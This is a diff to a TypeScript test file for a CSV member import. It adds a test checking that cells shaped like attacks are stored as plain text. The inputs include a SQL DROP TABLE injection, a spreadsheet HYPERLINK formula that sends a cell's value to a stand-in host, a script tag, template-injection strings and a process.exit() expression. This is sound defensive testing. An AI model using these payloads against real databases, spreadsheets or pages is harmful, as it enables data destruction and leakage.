@@ -4,6 +4,9 @@ import { CELL_LIMITS } from '../../src/core/import/limits';
 import { parseAvailability } from '../../src/core/import/normalise';
 import { normaliseTimeZone } from '../../src/core/import/timezones';
 import { validateTable } from '../../src/core/import/validate';
+import { listMembers } from '../../src/core/participants/members';
+import { ensureProgramAndCohort } from '../../src/core/programs/programs';
+import { runImport } from '../../src/core/import';
 import { bytes, tempStore } from '../unit/temp';
 import { cliImport, fingerprint, stillWorks, workspace } from './build';
 
@@ -89,5 +92,16 @@ describe('huge and pathological cells', () => {
     const mapping: ColumnMapping = [{ column: 'First', field: 'firstName' }, { column: 'Last', field: 'lastName' }, { column: 'Email', field: 'email' }, { column: 'Role', field: 'role' }];
     const result = validateTable({ headers: ['First', 'Last', 'Email', 'Role'], rows: [['a'.repeat(150), 'b'.repeat(150), 'a@example.org', 'mentor']] }, mapping);
     expect(result.problems.map((p) => [p.column, p.message])).toEqual([['First', 'first and last name together are longer than 200 characters']]);
+  });
+
+  it('cells that look like SQL, formulas or markup are stored as the text they are, and nothing else changes', async () => {
+    const store = await tempStore();
+    const cohort = ensureProgramAndCohort(store, 'P', 'C');
+    const name = "Robert'); DROP TABLE people;--";
+    const goals = '=HYPERLINK("http://x.example/?"&A1,"click") <script>alert(1)</script> {{7*7}} ${process.exit()}';
+    const csv = `Full name,Email,Role,Goals,Department\n${csvCell(name)},bobby@example.org,Mentee,${csvCell(goals)},"@SUM(1+1)"\n`;
+    expect(await runImport(store, { cohortId: cohort.id, fileName: 'x.csv', bytes: bytes(csv), skipInvalid: false })).toMatchObject({ added: 1 });
+    expect(listMembers(store, cohort.id)).toMatchObject([{ fullName: name, goals, department: '@SUM(1+1)' }]);
+    expect(store.sqlite.prepare("SELECT count(*) AS n FROM sqlite_master WHERE name = 'people'").get()).toEqual({ n: 1 });
   });
 });
